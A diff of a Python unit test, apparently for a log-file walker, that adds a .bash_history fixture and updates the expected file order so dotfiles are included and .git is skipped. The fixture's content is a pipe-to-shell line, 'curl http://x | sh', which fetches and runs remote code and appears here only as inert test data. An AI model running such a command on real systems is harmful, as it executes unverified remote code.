@@ -115,10 +115,16 @@ def test_iter_input_files_walks_directories(tmp_path: Path) -> None:
     (tmp_path / "b").mkdir()
     (tmp_path / "b" / "2.log").write_bytes(LINE)
     (tmp_path / "a.log").write_bytes(LINE)
+    (tmp_path / ".bash_history").write_text("curl http://x | sh\n")
     (tmp_path / ".git").mkdir()
     (tmp_path / ".git" / "config").write_text("x")
     found = list(iter_input_files([tmp_path, tmp_path / "nonexistent.log"]))
-    assert found == [tmp_path / "a.log", tmp_path / "b" / "2.log", tmp_path / "nonexistent.log"]
+    assert found == [
+        tmp_path / ".bash_history",
+        tmp_path / "a.log",
+        tmp_path / "b" / "2.log",
+        tmp_path / "nonexistent.log",
+    ]
 
 
 def test_batches_are_bounded(tmp_path: Path) -> None:
